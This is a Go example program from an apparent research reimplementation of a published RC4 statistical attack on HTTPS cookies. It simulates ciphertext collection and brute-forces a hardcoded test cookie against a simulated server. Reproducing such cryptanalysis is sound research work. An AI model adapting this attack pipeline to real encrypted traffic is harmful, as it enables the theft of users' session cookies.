// HTTPS cookie example: the §6 attack in miniature — craft the Listing-3
// aligned request, collect ciphertext statistics at paper scale in model
// mode (sufficient-statistic sampling is O(1) in the ciphertext count),
// generate the charset-restricted candidate list, and brute-force the
// secure cookie against the simulated server.
package main

import (
	"fmt"
	"math/rand"

	"rc4break/internal/cookieattack"
	"rc4break/internal/job"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
)

func main() {
	const secret = "S3cretAuthToken/"

	cfg, _, err := job.CookieConfig(secret)
	if err != nil {
		panic(err)
	}
	fmt.Printf("aligned request: cookie at offset %d, %d bytes total\n",
		cfg.Offset, len(cfg.Plaintext))

	attack, err := cookieattack.New(cfg)
	if err != nil {
		panic(err)
	}

	// 9·2^27 is the paper's 94%-success point only with its 2^23-candidate
	// list. This example walks 2^16 candidates: over simulation seeds 1–9
	// that list holds this secret in 4 runs (ranks 2, 13, 242, 1786), and
	// seed 9, used below, is a miss, so the run ends on the miss line.
	const ciphertexts = 9 << 27
	fmt.Printf("collecting %d ciphertext copies (~%.0f hours of live traffic at %d req/s)...\n",
		uint64(ciphertexts), float64(ciphertexts)/netsim.HTTPSRequestsPerSecond/3600,
		netsim.HTTPSRequestsPerSecond)
	if err := attack.SimulateStatistics(rand.New(rand.NewSource(9)), []byte(secret), ciphertexts); err != nil {
		panic(err)
	}

	server := &netsim.CookieServer{Secret: []byte(secret)}
	fmt.Println("brute-forcing candidate list against the server...")
	res, err := online.Search(attack, server, 1<<16)
	if err != nil {
		panic(err)
	}
	if res.Plaintext == nil {
		fmt.Printf("cookie not in the top %d candidates this run\n", server.Attempts)
		return
	}
	fmt.Printf("recovered cookie %q at candidate rank %d after %d server checks\n",
		res.Plaintext, res.Rank, server.Attempts)
	fmt.Printf("(%d checks take %.1f s at the paper's %d tests/s)\n",
		server.Attempts, float64(server.Attempts)/netsim.BruteForceTestsPerSecond,
		netsim.BruteForceTestsPerSecond)
}
